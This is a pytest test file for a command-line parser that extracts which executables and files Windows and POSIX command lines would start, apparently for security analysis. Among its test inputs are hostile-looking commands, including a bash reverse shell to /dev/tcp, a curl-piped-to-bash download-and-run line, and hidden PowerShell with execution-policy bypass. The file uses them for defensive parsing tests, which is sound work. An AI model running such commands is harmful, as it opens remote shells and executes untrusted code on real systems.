r"""Command lines taken apart: what CreateProcess, cmd, rundll32, a POSIX shell and its friends would start."""

from __future__ import annotations

import random
import shlex

import pytest

from scout.formats.commandline import parse_argv, parse_posix, parse_windows, split_posix, split_windows

S32 = "C:\\Windows\\System32\\"


@pytest.mark.parametrize(
    ("line", "files"),
    [
        ('"C:\\Program Files\\A B\\x.exe" -k "a b"', ["C:\\Program Files\\A B\\x.exe"]),
        ("C:\\Program Files\\A B\\x.exe -k", ["C:\\Program Files\\A B\\x.exe"]),
        ("\\??\\C:\\Windows\\system32\\drivers\\x.sys", ["C:\\Windows\\system32\\drivers\\x.sys"]),
        ("\\SystemRoot\\System32\\drivers\\x.sys", [S32 + "drivers\\x.sys"]),
        ("System32\\drivers\\x.sys", [S32 + "drivers\\x.sys"]),
        ("%SystemRoot%\\system32\\svchost.exe -k netsvcs", ["C:\\Windows\\system32\\svchost.exe"]),
        ("%ProgramData%\\u.exe", ["C:\\ProgramData\\u.exe"]),
        ('cmd /c "%windir%\\System32\\rundll32.exe C:\\x\\y.dll,Go"', ["cmd", S32 + "rundll32.exe", "C:\\x\\y.dll"]),
        ("cmd.exe /q /c C:\\a.bat & C:\\b.bat", ["cmd.exe", "C:\\a.bat"]),
        ('cmd /c start "" /b C:\\Users\\Public\\e.exe -x', ["cmd", "C:\\Users\\Public\\e.exe"]),
        ('cmd /c "C:\\a b\\c.exe"', ["cmd", "C:\\a b\\c.exe"]),
        ('rundll32.exe "C:\\a b\\c.dll",Start x', ["rundll32.exe", "C:\\a b\\c.dll"]),
        ("rundll32 javascript:alert(1)", ["rundll32"]),
        ("regsvr32 /s /u C:\\x.ocx", ["regsvr32", "C:\\x.ocx"]),
        ("powershell -nop -w hidden -ep bypass -File C:\\a.ps1 x", ["powershell", "C:\\a.ps1"]),
        ("powershell -c \"& 'C:\\b.ps1'\"", ["powershell", "C:\\b.ps1"]),
        ("wscript //B C:\\x\\y.vbs", ["wscript", "C:\\x\\y.vbs"]),
        ("mshta http://host/x", ["mshta"]),
        ("javaw -jar C:\\x.jar", ["javaw", "C:\\x.jar"]),
        ("", []),
        ("   ", []),
        ('"', []),
        ('"C:\\unclosed', ["C:\\unclosed"]),
    ],
)
def test_windows(line, files):
    assert list(parse_windows(line).files) == files


def test_an_unquoted_path_has_the_readings_that_windows_tries():
    assert parse_windows("C:\\Program Files\\A B\\x.exe -k").candidates == ("C:\\Program", "C:\\Program Files\\A")


def test_other_variables_and_another_system_root():
    assert parse_windows("%TEMP%\\x.exe", env={"TEMP": "C:\\T"}).executable == "C:\\T\\x.exe"
    assert parse_windows("%WinDir%\\x.exe", system_root="D:\\WINNT").executable == "D:\\WINNT\\x.exe"
    assert parse_windows("%NoSuch%\\x.exe").executable == "%NoSuch%\\x.exe"


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ('a "b c" d', ["a", "b c", "d"]),
        ('"a\\\\b" c', ["a\\\\b", "c"]),
        ('a\\\\\\"b c', ['a\\"b', "c"]),
        ('a\\\\"b c" d', ["a\\b c", "d"]),
        ('"" x', ["", "x"]),
        ("a\\b c", ["a\\b", "c"]),
        ('"a""b"', ['a"b']),
    ],
)
def test_arguments_by_the_documented_rules(line, words):
    """The examples of `Parsing C command-line arguments` (Microsoft) and of CommandLineToArgvW."""
    assert list(split_windows(line)) == words


def test_windows_quoting_comes_back_as_it_was():
    """`subprocess.list2cmdline` writes what CommandLineToArgvW reads."""
    from subprocess import list2cmdline

    rng = random.Random(1)
    for _ in range(500):
        words = ["".join(rng.choice('ab \\"\t') for _ in range(rng.randint(0, 8))) for _ in range(4)]
        assert list(split_windows(list2cmdline(words))) == words


@pytest.mark.parametrize(
    ("line", "files"),
    [
        ("/bin/sh -c '/usr/bin/foo --x'", ["/bin/sh", "/usr/bin/foo"]),
        ("cd / && run-parts --report /etc/cron.hourly", ["run-parts", "/etc/cron.hourly"]),
        ("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", ["run-parts", "/etc/cron.daily"]),
        ("env -i X=1 nice -n 5 /opt/x y", ["env", "nice", "/opt/x"]),
        ("/usr/bin/python3 -u /tmp/x.py a", ["/usr/bin/python3", "/tmp/x.py"]),
        ("python3 -c 'print(1)' /tmp/no.py", ["python3"]),
        ("A=b /bin/bash -i >& /dev/tcp/192.0.2.1/5 0>&1", ["/bin/bash"]),
        ("~/.x/y", ["/home/u/.x/y"]),
        ("$HOME/a ${HOME}/b", ["/home/u/a"]),
        ("sudo -u bob -- /x/y", ["sudo", "/x/y"]),
        ("timeout 5 /a/b", ["timeout", "/a/b"]),
        ("su - bob -c '/a/b c'", ["su", "/a/b"]),
        ("[ -x /etc/a ] && if [ ! -d /run ]; then /usr/lib/x; fi", ["/usr/lib/x"]),
        (">/dev/null 2>&1 /x/a", ["/x/a"]),
        ("curl -s http://h/x | bash", ["curl"]),
        ("sleep 30; /tmp/.x # c\n/tmp/y", ["/tmp/.x", "/tmp/y"]),
        ("/a/b\\ c 'd e'", ["/a/b c"]),
        ('"unclosed', ["unclosed"]),
        ("", []),
        (";;&&", []),
        ("A=1", []),
        ("bash /tmp/s.sh", ["bash", "/tmp/s.sh"]),
        (". /etc/x", [".", "/etc/x"]),
        ("flock -n /run/l -c '/a/b'", ["flock", "/a/b"]),
    ],
)
def test_posix(line, files):
    assert list(parse_posix(line, home="/home/u").files) == files


def test_words_are_those_of_a_shell():
    """`shlex` in POSIX mode is the second opinion on words without operators."""
    rng = random.Random(2)
    for _ in range(500):
        words = ["".join(rng.choice("ab '\"\\é") for _ in range(rng.randint(0, 6))) for _ in range(4)]
        line = " ".join(map(shlex.quote, words))
        assert split_posix(line) == shlex.split(line) == words


def test_nothing_is_endless():
    for line in (
        "sh -c " * 3000,
        '"' * 40_000,
        "\\" * 40_000,
        "(" * 40_000,
        "env " * 9000,
        "cmd /c " * 6000,
        "#\n" * 20_000,
        "%a% " * 10_000,
        "a;" * 20_000,
    ):
        parse_posix(line, home="/root")
        parse_windows(line)
    parse_argv(["env"] * 20_000)


def test_random_text_raises_nothing():
    rng = random.Random(3)
    alphabet = "ab\\\"'%/ -,;&|<>()$~#\0\n\udcff=:.cmdexrunl32"
    for _ in range(3000):
        line = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 60)))
        for found in (
            parse_posix(line, home="/h"),
            parse_windows(line),
            parse_windows("cmd /c " + line),
            parse_windows("rundll32 " + line),
            parse_posix("sh -c " + line),
        ):
            assert all(isinstance(f, str) for f in found.files)


def test_a_wrapper_starts_its_command_and_not_the_arguments_of_that() -> None:
    assert "/var/log/runit/ssh" not in parse_posix("exec chpst -u _log svlogd -tt '/var/log/runit/ssh'").files
    assert "/tmp/x" in parse_posix("chpst -u a /tmp/x").files
    assert "/tmp/x" in parse_posix("setuidgid a /tmp/x").files
